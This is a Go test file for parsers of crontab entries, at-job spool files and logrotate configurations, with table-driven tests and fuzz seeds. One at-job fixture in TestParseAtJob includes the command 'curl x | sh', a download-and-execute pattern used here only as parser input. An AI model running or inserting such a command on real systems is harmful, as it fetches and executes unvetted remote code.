package schedule

import (
	"reflect"
	"strings"
	"testing"
	"time"
)

func TestParseCrontab(t *testing.T) {
	src := "# comment\n" +
		"SHELL=/bin/sh\n" +
		"PATH = \"/usr/bin:/bin\"\n" +
		"17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n" +
		"@reboot root /usr/local/bin/start\n" +
		"*/5 * * * * www-data php -r 'echo 1;' \\% x%line one%line two\n" +
		"-*/5 * * * * root quiet\n" +
		"* * * * * root trailing \\\n" +
		"0 1 * *\n" +
		"@sometimes root x\n" +
		"* * * * * root\n" +
		"0 0 * * * root crlf\r\n"
	got := ParseCrontab([]byte(src), true)
	type row struct {
		N                                int
		Kind                             Kind
		Special, Schedule, User, Command string
		Stdin                            []string
		Name, Value                      string
		CRLF                             bool
	}
	var rows []row
	for _, l := range got {
		rows = append(rows, row{l.N, l.Kind, l.Special, l.Schedule, l.User, l.Command, l.Stdin, l.Name, l.Value, l.CRLF})
	}
	want := []row{
		{N: 2, Kind: KindEnv, Name: "SHELL", Value: "/bin/sh"},
		{N: 3, Kind: KindEnv, Name: "PATH", Value: "/usr/bin:/bin"},
		{N: 4, Kind: KindJob, Schedule: "17 * * * *", User: "root", Command: "cd / && run-parts --report /etc/cron.hourly"},
		{N: 5, Kind: KindJob, Special: "@reboot", Schedule: "@reboot", User: "root", Command: "/usr/local/bin/start"},
		{N: 6, Kind: KindJob, Schedule: "*/5 * * * *", User: "www-data", Command: "php -r 'echo 1;' % x", Stdin: []string{"line one", "line two"}},
		{N: 7, Kind: KindJob, Schedule: "-*/5 * * * *", User: "root", Command: "quiet"},
		{N: 8, Kind: KindJob, Schedule: "* * * * *", User: "root", Command: "trailing \\"},
		{N: 9, Kind: KindBad},
		{N: 10, Kind: KindBad},
		{N: 11, Kind: KindBad},
		{N: 12, Kind: KindJob, Schedule: "0 0 * * *", User: "root", Command: "crlf", CRLF: true},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("ParseCrontab:\n got %+v\nwant %+v", rows, want)
	}
	user := ParseCrontab([]byte("*/15 * * * * /home/ops/bin/x.sh >/dev/null 2>&1\n"), false)
	if len(user) != 1 || user[0].Command != "/home/ops/bin/x.sh >/dev/null 2>&1" || user[0].User != "" {
		t.Errorf("user crontab: %+v", user)
	}
}

func TestParseAtJob(t *testing.T) {
	newer := "#!/bin/sh\n# atrun uid=1001 gid=1001\n# mail dev 0\numask 22\nHOME=/home/dev; export HOME\ncd /home/dev || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER6b2a1f0e'\nid\ncurl x | sh\nmarcinDELIMITER6b2a1f0e\n"
	j := ParseAtJob([]byte(newer))
	if j.UID != 1001 || j.GID != 1001 || j.Mail != "dev 0" {
		t.Errorf("header: %+v", j)
	}
	var cmds []string
	for _, l := range j.Commands {
		cmds = append(cmds, l.Text)
	}
	if !reflect.DeepEqual(cmds, []string{"id", "curl x | sh"}) {
		t.Errorf("commands %q", cmds)
	}
	older := "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\nPATH=/usr/bin:/bin; export PATH\n/usr/bin/touch /tmp/x\n"
	j = ParseAtJob([]byte(older))
	if len(j.Commands) != 1 || j.Commands[0].Text != "/usr/bin/touch /tmp/x" {
		t.Errorf("older at job: %+v", j.Commands)
	}
	if q, when, ok := atName("a0000201c2b3a4"); !ok || q != "a" || !when.Equal(time.Unix(0x01c2b3a4*60, 0)) {
		t.Errorf("atName: %v %v %v", q, when, ok)
	}
}

func TestParseLogrotate(t *testing.T) {
	src := "# c\ncompresscmd /usr/bin/xz\ninclude /etc/logrotate.d\n/var/log/nginx/*.log {\n\tdaily\n\tprerotate\n\t\tif [ -d /x ]; then \\\n\t\t\trun-parts /x; \\\n\t\tfi \\\n\tendscript\n\tpostrotate\n\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n\tendscript\n}\n"
	c := ParseLogrotate([]byte(src))
	if len(c.Directives) != 2 || c.Directives[0].Arg != "/usr/bin/xz" || c.Directives[1].Key != "include" {
		t.Errorf("directives: %+v", c.Directives)
	}
	if len(c.Scripts) != 2 {
		t.Fatalf("scripts: %+v", c.Scripts)
	}
	pre, post := c.Scripts[0], c.Scripts[1]
	if pre.Kind != "prerotate" || pre.Line != 6 || len(pre.Body) != 1 || pre.Body[0].N != 7 || !strings.Contains(pre.Body[0].Text, "run-parts /x") {
		t.Errorf("prerotate: %+v", pre)
	}
	if post.Kind != "postrotate" || len(post.Body) != 1 || post.Body[0].N != 12 || post.Logs != "/var/log/nginx/*.log" {
		t.Errorf("postrotate: %+v", post)
	}
	if !ParseLogrotate([]byte("x {\n postrotate\n  y\n")).Unclosed {
		t.Error("unclosed script not reported")
	}
}

func FuzzParseCrontab(f *testing.F) {
	for _, s := range []string{
		"SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
		"@reboot /tmp/x\n* * * * * a%b\\%c%\n",
		"'A B' = \"c\"\n\"x\n=\n@\n-\n\r\n",
	} {
		f.Add([]byte(s), true)
		f.Add([]byte(s), false)
	}
	f.Fuzz(func(t *testing.T, b []byte, withUser bool) {
		for _, l := range ParseCrontab(b, withUser) {
			if l.N < 1 || (l.Kind == KindJob && strings.TrimSpace(l.Command) == "") {
				t.Fatalf("bad line %+v", l)
			}
		}
	})
}

func FuzzParseLogrotate(f *testing.F) {
	f.Add([]byte("/var/log/x {\n postrotate\n  /bin/kill -HUP `cat /run/x.pid`\n endscript\n}\ninclude /etc/x\n"))
	f.Add([]byte("postrotate\n\"unbalanced\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		c := ParseLogrotate(b)
		for _, s := range c.Scripts {
			for _, l := range s.Body {
				if l.N <= s.Line {
					t.Fatalf("body line %d before keyword %d", l.N, s.Line)
				}
			}
		}
	})
}

func FuzzParseAtJob(f *testing.F) {
	f.Add([]byte("#!/bin/sh\n# atrun uid=0 gid=0\ncd / || {\n exit 1\n}\nid\n"))
	f.Fuzz(func(t *testing.T, b []byte) { ParseAtJob(b) })
}
